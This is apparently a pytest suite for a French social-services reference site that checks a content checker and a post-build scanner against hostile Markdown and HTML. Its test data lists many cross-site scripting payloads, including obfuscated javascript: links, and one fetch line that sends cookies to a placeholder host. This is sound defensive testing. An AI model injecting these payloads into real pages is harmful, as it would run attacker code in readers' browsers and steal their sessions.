"""Hostile content: every vector of the corpus is rejected by the checker with its place,
legitimate Markdown and HTML are untouched, and the post-build scan rejects what a
checker gap would let through while accepting the site's own scripts."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from outils import ROOT, buildable, run_cli
from referentiel.checks.rendu import (
    DEFAULT_EXTENSIONS,
    MKDOCS_BUILTINS,
    extensions_of,
    pipeline,
    render_violations,
    violations,
)
from referentiel.checks.safety import hostile
from referentiel.publish.scan import KnownScripts, scan

# Each vector can run code (or load a page or script) in a reader's browser once rendered.
VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-casse-mixte": "<ScRiPt>alert(1)</sCrIpT>",
    "script-externe": "<SCRIPT SRC=//exemple.invalid/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "onerror-colle-au-guillemet": '<img src="x"onerror="alert(1)">',
    "svg-onload-barre": "<svg/onload=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "onclick-majuscules": '<a href="#" OnClick="alert(1)">x</a>',
    "attribut-sur-deux-lignes": '<div\nonmouseover="alert(1)">x</div>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "iframe": '<iframe src="https://exemple.invalid/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "form-action": '<form action="javascript:alert(1)"><button>OK</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "link-import": "<link rel=import href=x>",
    "style": "<style>@import 'x';</style>",
    "math-xlink": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "lien-markdown-javascript": "[clic](javascript:alert(1))",
    "lien-markdown-casse-mixte": "[clic](JaVaScRiPt:alert(1))",
    "lien-espace-initial": "[clic]( javascript:alert(1))",
    "entite-decimale": "[clic](j&#97;vascript:alert(1))",
    "entite-hexadecimale": "[clic](&#x6A;avascript:alert(1))",
    "entites-partout": "[clic](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "entite-sans-point-virgule": "[clic](&#0000106avascript:alert(1))",
    "deux-points-nomme": '<a href="javascript&colon;alert(1)">x</a>',
    "tabulation-dans-le-schema": '<a href="java\tscript:alert(1)">x</a>',
    "tabulation-en-entite": '<a href="java&#x09;script:alert(1)">x</a>',
    "retour-chariot-en-entite": '<a href="jav&#13;ascript:alert(1)">x</a>',
    "saut-de-ligne-nomme": '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    "href-blanc-initial": '<a href=" javascript:alert(1)">x</a>',
    "definition-de-reference": "[x]: javascript:alert(1)",
    "lien-automatique": "<javascript:alert(1)>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data-markdown": "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-majuscules": '<a href="DATA:text/html,x">x</a>',
    "data-image-markdown": "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data-reference": "[x]: data:text/html,x",
    "data-entite": '<a href="&#x64;ata:text/html,x">x</a>',
    "data-entite-milieu": '<a href="d&#x61;ta:text/html,x">x</a>',
    "attr-list-titre": '## Titre {: onclick="alert(1)" }',
    "attr-list-lien": '[lien](https://exemple.fr){: onmouseover="alert(1)" }',
    "attr-list-href": '[lien](#a){: href="javascript:alert(1)" }',
}

# Legitimate content the référentiel uses: never flagged.
LEGITIMES: dict[str, str] = {
    "admonition": '!!! note "Attention"\n    Le secret professionnel s\'applique : voir ci-dessous.',
    "tableau": "| Champ | Dispositif |\n|---|---|\n| Logement | FSL |",
    "ancre-de-titre": "## Accès aux droits {#acces-aux-droits}",
    "classe-attr-list": "Paragraphe.\n{: .ref-note }",
    "abbr": '<abbr title="Fonds de solidarité pour le logement">FSL</abbr>',
    "span-id": '<span id="ancre-1"></span>',
    "table-html": "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    "md-in-html": '<div class="ref-encadre" markdown="1">\n**Important** : texte.\n</div>',
    "lien-legifrance": "[Loi n° 2007-293](https://www.legifrance.gouv.fr/loda/id/JORFTEXT000000823100)",
    "lien-automatique-https": "<https://www.service-public.fr/particuliers/vosdroits/F1257>",
    "ancre-locale": "Voir [la procédure](#etapes) et [le glossaire](../glossaire/index.md#fsl).",
    "javascript-en-prose": "Le site fonctionne sans JavaScript : les filtres sont un plus.",
    "data-en-prose": "Les données : date, lieu, motif (voir les data de la CAF).",
    "deux-points-francais": "Article L. 226-2-1 du CASF : « … » ; note : à revoir.",
    "inferieur-en-prose": "Enfants de moins de 3 ans (< 3 ans) et plus de 6 ans (> 6 ans).",
    "entites-typographiques": "Coût &lt; 100 &euro; &amp; délai &nbsp;: 2 mois.",
    "on-en-prose": "Quand on = le service, on doit tracer la décision.",
}


# Class 1 of issue 11: what Markdown *really* does with each of them (Python-Markdown
# closes a fence only on the very same fence line; an unclosed fence is no fence; a fence
# must start the line). Each: (body, 1-based line of the finding; None = nothing live).
FENCES: dict[str, tuple[str, int | None]] = {
    "quatre-puis-trois": ("````\ncode\n```\n<script>alert(1)</script>\n", 4),
    "trois-puis-quatre": (
        "```\ncode\n````\n<script>alert(1)</script>\n```\n\n<form action=x>\n",
        7,
    ),
    "tilde-puis-accent": ("~~~\n```\n~~~\n<style>body{display:none}</style>\n", 4),
    "non-ferme": ("Texte.\n\n```\n<iframe src=//exemple.invalid></iframe>\n", 4),
    "indente-deux-espaces": ("  ```\n<script>alert(1)</script>\n  ```\n", 2),
    "ferme-par-plus-long": (
        "~~~\n<b>x</b>\n~~~~\n<svg><animate attributeName=href values=javascript:alert(1) /></svg>\n~~~\n",
        None,
    ),
    "dans-une-liste": ("- item\n\n    ```\n    code\n    ```\n<object data=x></object>\n", 6),
    "vrai-bloc": ("```\n<script>alert(1)</script>\n```\n", None),
    "vrai-bloc-tilde": ("~~~~\n<form action=x><input name=p></form>\n~~~~\n", None),
    "bloc-indente": ("Texte.\n\n    <script>alert(1)</script>\n", None),
    "code-en-ligne": ("Écrire `<script>` ou ``<iframe>`` est refusé.\n", None),
    "bloc-puis-html": (
        '```\nok\n```\n\n<meta http-equiv="refresh" content="0;url=//e.invalid">\n',
        5,
    ),
}

# Markdown shows these as text (it escapes them): refusing them would be a false alarm.
INERT: dict[str, str] = {
    "guillemet-colle": '<img src="x"onerror="alert(1)">',
    "barre-avant-attribut": '<a/href="javascript:alert(1)">x</a>',
    "entite-sans-point-virgule": "[clic](&#0000106avascript:alert(1))",
    "titre-abbr": '*[FSL]: "><script>alert(1)</script>\n\nLe FSL.',
    "titre-d-attribut": '<p title="</p><script>alert(1)</script>">x</p>',
}

# Markdown escapes these two: they are in INERT now (the regexes used to flag them).
for _inert in ("onerror-colle-au-guillemet", "entite-sans-point-virgule"):
    VECTORS.pop(_inert)

# More vectors of the classes the issue lists (SVG animation, forms, style, clobbering).
VECTORS.update(
    {
        "svg-animate": '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        "svg-set": '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
        "form-ailleurs": '<form action="https://exemple.invalid/"><input name="mdp"></form>',
        "style-plein-ecran": '<div style="position:fixed;inset:0;background:#fff">Connexion</div>',
        "style-attr-list": 'Paragraphe.\n{: style="display:none" }',
        "classe-material": '<div class="md-dialog">Session expirée</div>',
        "id-de-la-configuration": '<span id="__config"></span>',
        "id-attr-list": "## Titre {#__config}",
        "commentaire-piege": "<!--><script>alert(1)</script>-->",
        "cdata": "<![CDATA[<script>alert(1)</script>]]>",
        "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "md-in-html": '<div markdown="1">\n<script>alert(1)</script>\n</div>',
        "liste-de-definitions": "Terme\n:   <iframe src=x></iframe>",
        "admonition": '!!! note "x"\n    <form action="//e.invalid"><input name=p></form>',
        "cellule-de-tableau": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "reference-non-utilisee": "[r]: javascript:alert(1)",
        "image-javascript": "![x](javascript:alert(1))",
        "lien-tabulation-entite": "[a](java&#x09;script:alert(1))",
        "cible-nouvel-onglet": '<a href="https://exemple.invalid" target="_blank">x</a>',
        "octet-nul": "<scr\x00ipt>alert(1)</script>",
        "balise-dans-balise": "<scr<script>ipt>alert(1)</script>",
    }
)


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_vecteur_rejete(name: str) -> None:
    found = hostile("Texte.\n\n" + VECTORS[name] + "\n")
    assert found, f"vecteur non détecté : {VECTORS[name]!r}"
    assert {code for _, _, code, _ in found} <= {"SEC001", "SEC002"}
    assert all(line >= 3 for line, _, _, _ in found)  # placed on the vector, not above


@pytest.mark.parametrize("name", sorted(LEGITIMES))
def test_contenu_legitime_accepte(name: str) -> None:
    assert hostile(LEGITIMES[name]) == []


@pytest.mark.parametrize("name", sorted(FENCES))
def test_blocs_de_code_comme_markdown_les_lit(name: str) -> None:
    body, line = FENCES[name]
    found = hostile(body)
    if line is None:
        assert found == []
    else:
        assert found and {f[0] for f in found} == {line}


@pytest.mark.parametrize("name", sorted(INERT))
def test_ce_que_markdown_echappe_n_est_pas_signale(name: str) -> None:
    html, _ = pipeline(None).convert(INERT[name])
    assert violations(html) == []  # nh3, a browser's parser, reads no element either
    assert hostile(INERT[name]) == []


def test_chaine_markdown_celle_du_site() -> None:
    """The checker converts with mkdocs.yml's extensions and those MkDocs adds."""
    from mkdocs.config.defaults import MkDocsConfig

    assert tuple(vars(MkDocsConfig.markdown_extensions)["builtins"]) == MKDOCS_BUILTINS
    listed = [(n, o) for n, o in extensions_of(ROOT) if not n.startswith("referentiel.")]
    assert tuple(listed) == DEFAULT_EXTENSIONS
    assert set(pipeline(ROOT).names) == {n for n, _ in DEFAULT_EXTENSIONS} | set(MKDOCS_BUILTINS)


def test_position_dans_le_texte_brut_malgre_les_entites() -> None:
    text = "Voir [ce lien](j&#97;vascript:alert(1)) puis <img src=x onerror=y>."
    found = sorted((line, col, code) for line, col, code, _ in hostile(text))
    assert found == [
        (1, text.index("j&#97;") + 1, "SEC002"),
        (1, text.index("onerror") + 1, "SEC001"),
    ]


def test_pages_generees_dans_la_liste_des_balises_du_site() -> None:
    """Every page generated from the real content, through the same pipeline: outside
    the editors' list, only what the renderer itself writes (filters, navigation)."""
    from referentiel.build import files
    from referentiel.load import load

    ref, _ = load(ROOT, cache=False)
    # The widgets of the renderer, and the page frame (« À propos de cette page »).
    renderer_own = {
        *("nav", "form", "label", "input", "select", "option", "button", "progress", "aside")
    }
    seen: set[str] = set()
    for path, data in files(ref, ROOT).items():
        if path.endswith(".md") and not (ROOT / "docs" / path).exists():
            text = data.decode("utf-8").split("\n---\n", 1)[-1]
            for v in render_violations(pipeline(ROOT), text):
                assert v.kind != "lien", (path, v)
                assert v.kind == "attribut" or v.tag in renderer_own, (path, v)
                assert not v.name.startswith("on") and v.name != "style", (path, v)
                seen.add(v.tag)
    assert seen  # the renderer's own widgets were seen, so the test looked


FICHE = "fiches/assistant-de-service-social.md"
TEXTE = "donnees/textes/code-penal-226-13.yml"


def _check(depot: Path) -> list[tuple[str, int, int, str]]:
    run = run_cli("--racine", str(depot), "check", "--format", "json")
    assert run.code == 1 and "Traceback" not in run.err
    return [
        (d["location"]["path"], d["location"]["line"], d["location"]["col"], d["code"])
        for d in json.loads(run.out)
        if d["code"].startswith("SEC")
    ]


def test_checker_localise_dans_le_corps_et_dans_le_yaml(depot: Path) -> None:
    fiche = depot / FICHE
    text = fiche.read_text(encoding="utf-8")
    body_start = text.index("\n---\n", 4) + 5
    first_body_line = text.count("\n", 0, body_start) + 1
    fiche.write_text(
        text[:body_start] + "Texte.\n\nSuite <img src=x\n  onerror=alert(1)>\n"
        "[a](&#x6A;avascript:x)\n" + text[body_start:],
        encoding="utf-8",
    )
    texte = depot / TEXTE
    texte.write_text(
        texte.read_text(encoding="utf-8").replace(
            'titre: "', 'titre: "<iframe src=x></iframe> ', 1
        ),
        encoding="utf-8",
    )
    titre_line = next(
        i
        for i, line in enumerate(texte.read_text(encoding="utf-8").splitlines(), 1)
        if line.startswith("titre:")
    )
    assert sorted(_check(depot)) == sorted(
        [
            (FICHE, first_body_line + 3, 3, "SEC001"),  # onerror, on the line after `<img`
            (FICHE, first_body_line + 4, 5, "SEC002"),  # the entity-obfuscated scheme
            (TEXTE, titre_line, 9, "SEC001"),  # the iframe inside the YAML value
        ]
    )


# Where a payload can be written: (file, text replaced, replacement), each in a field
# that reaches a page or an export.
INJECTIONS: dict[str, tuple[str, str, str]] = {
    "valeur-de-liste": (
        FICHE,
        '"Prévenir les expulsions locatives."',
        '"Prévenir <script>x</script>"',
    ),
    "libelle-en-titre": (
        "donnees/tableau.yml",
        'libelle: "Prévention des expulsions"',
        'libelle: "Prévention {: onclick=alert(1) }"',
    ),
    "note-de-provenance": (
        FICHE,
        '    section: "Fiche action 2"\n',
        '    section: "Fiche action 2"\n    note: "[voir](javascript:alert(1))"\n',
    ),
    "forme-developpee": (
        "glossary.yml",
        'forme_developpee: "Assistant de service social"',
        'forme_developpee: "Assistant <img src=x onerror=alert(1)>"',
    ),
    "citation": (
        "glossary.yml",
        'section: "Glossaire"',
        'section: "<form action=//exemple.invalid><input name=p></form>"',
    ),
    "corps-apres-fences": (
        FICHE,
        "L'ASS intervient",
        "````\n```\n````\n<iframe src=x></iframe>\n\nL'ASS intervient",
    ),
    "page-ecrite-a-la-main": (
        "docs/index.md",
        "# Accueil",
        "# Accueil\n\n~~~\n<b>\n~~~~\n\n<script>x</script>",
    ),
}


@pytest.mark.parametrize("name", sorted(INJECTIONS))
def test_chaque_point_d_injection_est_verifie(name: str, depot: Path) -> None:
    path, old, new = INJECTIONS[name]
    target = depot / path
    text = target.read_text(encoding="utf-8")
    assert old in text
    target.write_text(text.replace(old, new, 1), encoding="utf-8")
    found = [(p, line) for p, line, _, code in _check(depot)]
    new_text = target.read_text(encoding="utf-8")
    first = new_text.index(new)
    lines = range(new_text.count("\n", 0, first) + 1, new_text.count("\n", 0, first + len(new)) + 2)
    assert found and all(p == path and line in lines for p, line in found), found


def test_contenu_reel_sans_fausse_alerte() -> None:
    from referentiel.cli import collect

    assert [d.format_text() for d in collect(ROOT) if d.code.startswith("SEC")] == []


# --- post-build scan -----------------------------------------------------------------

MATERIAL_INLINE = (
    '__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}'
    "catch(e){}}"
)
PAGE = """<!doctype html><html lang="fr"><head>
<link rel="stylesheet" href="../assets/stylesheets/main.css">
<link rel="canonical" href="https://intranet.exemple.fr/fiches/">
</head><body>
<script>{inline}</script>
<script id="__config" type="application/json">{{"base": ".."}}</script>
<script src="../assets/javascripts/bundle.min.js"></script>
<p><abbr title="Fonds de solidarité pour le logement">FSL</abbr> <span id="a"></span>
<a href="https://www.legifrance.gouv.fr/">Légifrance</a></p>
{extra}
</body></html>
"""

SCAN_VECTORS = {
    "script-inconnu": "<script>fetch('//exemple.invalid/?'+document.cookie)</script>",
    "script-module": "<script type=module>import('//exemple.invalid/x.js')</script>",
    "script-hors-assets": '<script src="../fiches/x.js"></script>',
    "script-externe": '<script src="https://cdn.exemple.invalid/x.js"></script>',
    "onerror": "<img src=x onerror=alert(1)>",
    "href-entites": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "href-tabulation": '<a href="java&#9;script:alert(1)">x</a>',
    "data": '<a href="data:text/html,x">x</a>',
    "iframe": '<iframe src="../x/"></iframe>',
    "object": '<object data="x"></object>',
    "base": '<base href="https://exemple.invalid/">',
    "meta-refresh": '<meta http-equiv="Refresh" content="0;url=https://exemple.invalid/">',
    "image-externe": '<img src="https://exemple.invalid/pixel.png" alt="">',
    "police-externe": '<link rel="preload stylesheet" href="//fonts.exemple.invalid/x.css">',
}


def _site(tmp_path: Path, extra: str) -> Path:
    site = tmp_path / "site"
    (site / "fiches").mkdir(parents=True)
    (site / "fiches" / "index.html").write_text(
        PAGE.format(inline=MATERIAL_INLINE, extra=extra), encoding="utf-8"
    )
    return site


def test_scan_accepte_les_scripts_du_site(tmp_path: Path) -> None:
    assert list(scan(_site(tmp_path, ""))) == []


@pytest.mark.parametrize("name", sorted(SCAN_VECTORS))
def test_scan_rejette(tmp_path: Path, name: str) -> None:
    diags = list(scan(_site(tmp_path, SCAN_VECTORS[name]), KnownScripts()))
    assert [(d.location.path, d.location.line, d.code) for d in diags] == [
        ("site/fiches/index.html", 10, "SEC003")
    ]


def test_scan_apres_construction_attrape_une_page_ecrite_a_la_main(
    depot: Path, tmp_path: Path
) -> None:
    """A hand-written page is not read by the checker: the scan of the built site is what
    stops it from being published (`make build` fails)."""
    from referentiel.site.mkdocs import build_site

    (depot / "docs" / "piege.md").write_text(
        "# Piège\n\n<p>Texte <img src=x onerror=alert(1)></p>\n", encoding="utf-8"
    )
    site = tmp_path / "site"
    build_site(buildable(depot), site)
    found = [(d.location.path, d.code) for d in scan(site)]
    assert found == [("site/piege/index.html", "SEC003")]
    assert run_cli("scan", str(site)).code == 1
